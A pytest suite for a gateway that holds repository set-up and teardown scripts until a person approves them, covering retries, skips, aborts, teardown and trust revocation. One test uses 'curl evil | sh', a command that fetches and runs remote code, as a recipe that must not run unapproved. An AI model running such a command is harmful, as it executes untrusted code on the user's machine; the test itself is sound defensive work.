"""Set-ups through the gateway: they wait for a person, run, fail, are retried, skipped, aborted, and torn down."""

from typing import Any

import pytest

from fleet.ports import NotCarried, Recipe
from tests.gateway.machine import NOWHERE, PLAIN, REPOSITORY, Answer, Api, Machine

GIT = f"{REPOSITORY}/.git"
RECIPE = Recipe("d1", "npm ci", "docker compose down")
BRIEF = {"status": "held", "exitCode": None, "detail": "", "endedAt": None}


@pytest.fixture
async def machine(machine: Machine) -> Machine:
    machine.scripts.recipe = RECIPE
    return machine


async def asked(api: Api, strategy: str = "worktree", **fields: Any) -> str:
    """Create a session whose set-up waits for a person, and return its path."""
    item = await api.session(REPOSITORY, isolationStrategy=strategy, **fields)
    await api.fleet.views.sessions.wait(item["id"], lambda s: s.setup is not None and s.setup.status == "held")
    return f"/api/sessions/{item['id']}"


async def decide(api: Api, path: str, **body: str) -> Answer:
    return await api.send("POST", f"{path}/setup", body)


async def allow(api: Api, path: str, digest: str = "d1") -> Answer:
    return await decide(api, path, action="allow", digest=digest)


async def item_of(api: Api, path: str) -> dict[str, Any]:
    """Wait until the session is there or has failed, and return its item."""
    await api.fleet.views.sessions.wait(path.rpartition("/")[2], lambda s: s.provisioning is None)
    item: dict[str, Any] = (await api.send("GET", path)).json
    return item


async def test_nothing_runs_before_a_person_allows_it(machine: Machine, api: Api) -> None:
    path = await asked(api, initialPrompt="work")
    item = (await api.send("GET", path)).json
    assert (item["status"], item["queued"]) == ("waiting_input", 1)
    assert item["setup"].items() >= BRIEF.items()
    assert [each["id"] for each in (await api.send("GET", "/api/sessions?status=waiting_input")).json] == [item["id"]]
    [waiting] = (await api.send("GET", "/api/inbox")).json
    assert (waiting["kind"], waiting["sessionId"]) == ("setup", item["id"])
    assert (waiting["setup"]["setup"], waiting["setup"]["digest"]) == ("npm ci", "d1")
    assert machine.scripts.ran == []
    assert (await allow(api, path)).json["digest"] == "d1"
    item = await api.settled(item["id"])
    assert (item["status"], item["setup"]["status"], item["setup"]["exitCode"]) == ("idle", "done", 0)
    assert [(script.text, script.directory) for script in machine.scripts.ran] == [("npm ci", item["directory"])]
    assert (await api.send("GET", f"{path}/setup")).json["output"] == "done\n"
    assert (await api.send("GET", "/api/inbox")).json == []


async def test_session_whose_set_up_waits_has_no_instance(api: Api) -> None:
    body = {"directory": REPOSITORY, "isolationStrategy": "worktree"}
    made = (await api.send("POST", "/api/sessions", body)).json
    assert (made["instanceId"], made["session"]["instanceId"]) == (None, None)
    path = f"/api/sessions/{made['session']['id']}"
    await api.send("DELETE", path)
    assert (await api.send("POST", f"{path}/resume")).json["instanceId"] is None


async def test_opencode_does_not_load_a_directory_before_its_set_up(machine: Machine, api: Api) -> None:
    machine.scripts.recipe = None
    first = await api.session(REPOSITORY, isolationStrategy="worktree")
    machine.scripts.recipe = RECIPE
    path = await asked(api)
    assert {directory for _, directory in machine.world.loaded} == {first["directory"]}
    await allow(api, path)
    second = await item_of(api, path)
    assert machine.world.loaded[-1] == (first["instanceId"], second["directory"])


async def test_what_was_allowed_runs_in_the_next_workspace_and_nothing_else_does(machine: Machine, api: Api) -> None:
    await allow(api, await asked(api))
    second = await api.session(REPOSITORY, isolationStrategy="clone")
    assert (await item_of(api, f"/api/sessions/{second['id']}"))["setup"]["status"] == "done"
    machine.scripts.recipe = Recipe("d2", "curl evil | sh")
    await asked(api)
    machine.files.add_repository("/home/user/other")
    machine.scripts.recipe = RECIPE
    other = await api.session("/home/user/other", isolationStrategy="worktree")
    state = await api.fleet.views.sessions.wait(other["id"], lambda s: s.setup is not None and s.setup.status == "held")
    assert state.setup is not None
    assert [script.text for script in machine.scripts.ran] == ["npm ci", "npm ci"]


async def test_a_directory_that_is_used_as_it_is_is_not_set_up(machine: Machine, api: Api) -> None:
    item = await api.session(REPOSITORY)
    assert (item["status"], item["setup"]) == ("idle", None)
    (await api.send("GET", f"/api/sessions/{item['id']}/setup")).problem(404, "setup_missing")
    (await decide(api, f"/api/sessions/{item['id']}", action="skip")).problem(409, "setup_not_waiting")
    (await allow(api, f"/api/sessions/{item['id']}")).problem(409, "setup_not_waiting")
    assert machine.scripts.ran == []


async def test_another_content_than_was_read_is_not_allowed(api: Api) -> None:
    path = await asked(api)
    (await allow(api, path, "d2")).problem(409, "setup_changed")
    (await decide(api, path, action="allow")).problem(422, "invalid")
    assert (await api.send("GET", "/api/trust")).json == []


async def test_a_person_continues_without_the_set_up(machine: Machine, api: Api) -> None:
    path = await asked(api, initialPrompt="work")
    assert (await decide(api, path, action="skip")).json["status"] == "skipped"
    item = await item_of(api, path)
    assert (item["status"], item["setup"]["status"]) == ("active", "skipped")
    assert machine.scripts.ran == []


async def test_submodules_that_it_filled_are_not_said_to_be_empty(machine: Machine, api: Api) -> None:
    machine.scripts.recipe = Recipe("d1", submodules=True)
    lacking = NotCarried("submodules", "Submodules are empty: lib."), NotCarried("hooks", "Hooks do not run.")
    machine.files.repositories[REPOSITORY].not_carried = lacking
    path = await asked(api)
    workspace = f"/api/workspaces/{(await api.send('GET', path)).json['workspaceId']}"
    assert [each["what"] for each in (await api.send("GET", workspace)).json["notCarried"]] == ["submodules", "hooks"]
    await allow(api, path)
    await item_of(api, path)
    assert [each["what"] for each in (await api.send("GET", workspace)).json["notCarried"]] == ["hooks"]
    assert machine.scripts.ran[0].text == "git submodule update --init --recursive\n"


async def test_a_failed_set_up_says_why_and_is_tried_again(machine: Machine, api: Api) -> None:
    machine.scripts.ends["npm ci"] = 1
    machine.scripts.output = "downloading\nE404 no such package\n"
    path = await asked(api)
    await allow(api, path)
    item = await item_of(api, path)
    said = "the set-up ended with exit code 1: downloading / E404 no such package"
    assert (item["status"], item["failure"]["code"], item["failure"]["detail"]) == ("error", "setup_failed", said)
    assert item["setup"].items() >= {"status": "failed", "exitCode": 1, "detail": said}.items()
    machine.scripts.ends.clear()
    assert (await api.send("POST", f"{path}/resume")).status == 200
    assert (await item_of(api, path))["status"] in ("active", "idle")
    assert len(machine.scripts.ran) == 2


async def test_a_failed_set_up_can_be_skipped(machine: Machine, api: Api) -> None:
    machine.scripts.ends["npm ci"] = 1
    path = await asked(api)
    await allow(api, path)
    assert (await item_of(api, path))["status"] == "error"
    await decide(api, path, action="skip")
    assert (await item_of(api, path))["setup"]["status"] == "skipped"
    assert len(machine.scripts.ran) == 1


async def test_a_set_up_that_hangs_is_ended(machine: Machine, api: Api) -> None:
    machine.scripts.lasts_s = 1e9
    path = await asked(api)
    await allow(api, path)
    item = await item_of(api, path)
    assert item["failure"]["detail"] == "the set-up took longer than 1800 s and was ended: done"


async def test_an_abort_ends_a_set_up(machine: Machine, api: Api) -> None:
    machine.scripts.lasts_s = 1e9
    path = await asked(api)
    await allow(api, path)
    await api.fleet.views.sessions.wait(
        path.rpartition("/")[2], lambda s: s.evidence == "its workspace is being set up"
    )
    (await decide(api, path, action="skip")).problem(409, "session_not_ready")
    aborted = (await api.send("POST", f"{path}/abort")).json
    assert (aborted["outcome"], aborted["session"]["failure"]["code"]) == ("aborted", "setup_aborted")
    assert api.fleet.context.local.scripts.running == set()


async def test_a_bad_set_up_file_is_a_failure_that_can_be_skipped(machine: Machine, api: Api) -> None:
    machine.scripts.recipe = Recipe("d3", problem=".fleet.toml: Expected ']'")
    item = await api.session(REPOSITORY, isolationStrategy="worktree")
    path = f"/api/sessions/{item['id']}"
    assert (await item_of(api, path))["failure"]["code"] == "setup_invalid"
    (await allow(api, path, "d3")).problem(422, "setup_invalid")
    await decide(api, path, action="skip")
    assert (await item_of(api, path))["failure"] is None


async def test_a_resume_does_not_set_up_again_and_a_restored_workspace_is_set_up(machine: Machine, api: Api) -> None:
    path = await asked(api)
    await allow(api, path)
    workspace = f"/api/workspaces/{(await item_of(api, path))['workspaceId']}"
    await api.send("DELETE", path)
    await api.send("POST", f"{path}/resume")
    await item_of(api, path)
    assert [script.text for script in machine.scripts.ran] == ["npm ci"]
    await api.send("DELETE", f"{path}?cleanupWorkspace=true")
    assert (await api.send("GET", workspace)).json["teardown"].items() >= {"exitCode": 0, "detail": ""}.items()
    await api.send("POST", f"{workspace}/restore")
    await api.send("POST", f"{path}/resume")
    await item_of(api, path)
    assert [script.text for script in machine.scripts.ran] == ["npm ci", "docker compose down", "npm ci"]


async def test_a_teardown_that_fails_holds_nothing_up(machine: Machine, api: Api) -> None:
    machine.scripts.ends["docker compose down"] = 3
    path = await asked(api)
    await allow(api, path)
    item = await item_of(api, path)
    machine.scripts.output = "no docker\n"
    assert (await api.send("DELETE", f"{path}?cleanupWorkspace=true")).json["workspace"]["removed"]
    teardown = (await api.send("GET", f"/api/workspaces/{item['workspaceId']}")).json["teardown"]
    said = "the teardown ended with exit code 3"
    assert (teardown["exitCode"], teardown["detail"], teardown["output"]) == (3, said, "no docker\n")


async def test_a_teardown_that_is_not_allowed_any_more_does_not_run(machine: Machine, api: Api) -> None:
    path = await asked(api)
    await allow(api, path)
    item = await item_of(api, path)
    assert (await api.send("DELETE", f"/api/trust?repository={GIT}&digest=d1")).json == []
    assert (await api.send("DELETE", f"{path}?cleanupWorkspace=true")).json["workspace"]["removed"]
    teardown = (await api.send("GET", f"/api/workspaces/{item['workspaceId']}")).json["teardown"]
    assert teardown["detail"] == "it did not run: its commands are no longer allowed"
    assert [script.text for script in machine.scripts.ran] == ["npm ci"]


async def test_a_set_up_that_a_kill_cut_off_runs_again(machine: Machine) -> None:
    machine.scripts.lasts_s = 1000.0
    async with machine.fleet(killed=True) as api:
        path = await asked(api)
        await allow(api, path)
        await api.fleet.views.sessions.wait(path.rpartition("/")[2], lambda s: s.evidence.endswith("set up"))
    machine.scripts.lasts_s = 0.01
    async with machine.fleet() as api:
        assert (await item_of(api, path))["setup"]["status"] == "done"
        assert (await api.send("GET", f"{path}/setup")).json["output"] == "done\n"
    assert len(machine.scripts.ran) == 2


async def test_a_set_up_waits_for_a_person_after_a_kill_as_before(machine: Machine) -> None:
    async with machine.fleet(killed=True) as api:
        path = await asked(api)
    async with machine.fleet() as api:
        assert (await api.send("GET", path)).json["status"] == "waiting_input"
        await allow(api, path)
        assert (await item_of(api, path))["setup"]["status"] == "done"


async def test_trust_is_given_by_directory_listed_and_revoked(machine: Machine, api: Api) -> None:
    recipe = (await api.send("GET", f"/api/trust/recipe?directory={REPOSITORY}")).json
    assert recipe == {
        "repository": GIT,
        "digest": "d1",
        "setup": "npm ci",
        "teardown": "docker compose down",
        "submodules": False,
        "allowed": False,
        "problem": None,
    }
    body = {"directory": REPOSITORY, "digest": "d1"}
    (await api.send("POST", "/api/trust", body | {"digest": "d2"})).problem(409, "setup_changed")
    assert (await api.send("POST", "/api/trust", body)).json["allowed"]
    [listed] = (await api.send("GET", "/api/trust")).json
    assert (listed["repository"], listed["digest"], listed["by"]) == (GIT, "d1", "local")
    item = await api.session(REPOSITORY, isolationStrategy="worktree")
    assert (await item_of(api, f"/api/sessions/{item['id']}"))["setup"]["status"] == "done"
    assert (await api.send("DELETE", f"/api/trust?repository={GIT}")).json == []
    (await api.send("DELETE", f"/api/trust?repository={GIT}")).problem(404, "trust_not_found")
    machine.scripts.recipe = None
    (await api.send("POST", "/api/trust", body)).problem(404, "setup_missing")
    (await api.send("GET", f"/api/trust/recipe?directory={PLAIN}")).problem(422, "not_a_repository")


async def test_the_file_of_a_checkout_outside_of_the_chosen_roots_is_not_read(machine: Machine, api: Api) -> None:
    path = await asked(api)
    own = (await api.send("GET", path)).json["directory"]
    await api.send("POST", "/api/workspace-roots", {"path": PLAIN})
    refused = await api.send("GET", f"/api/trust/recipe?directory={REPOSITORY}")
    refused.problem(422, "directory_outside_roots")
    refused = await api.send("POST", "/api/trust", {"directory": own, "digest": "d1"})
    refused.problem(422, "directory_outside_roots")
    await api.send("DELETE", f"/api/workspace-roots?path={PLAIN}")
    assert (await api.send("POST", "/api/trust", {"directory": own, "digest": "d1"})).status == 200


async def test_an_unknown_session_has_no_set_up(api: Api) -> None:
    (await api.send("GET", f"/api/sessions/{NOWHERE}/setup")).problem(404, "session_not_found")
    (await decide(api, f"/api/sessions/{NOWHERE}", action="skip")).problem(404, "session_not_found")
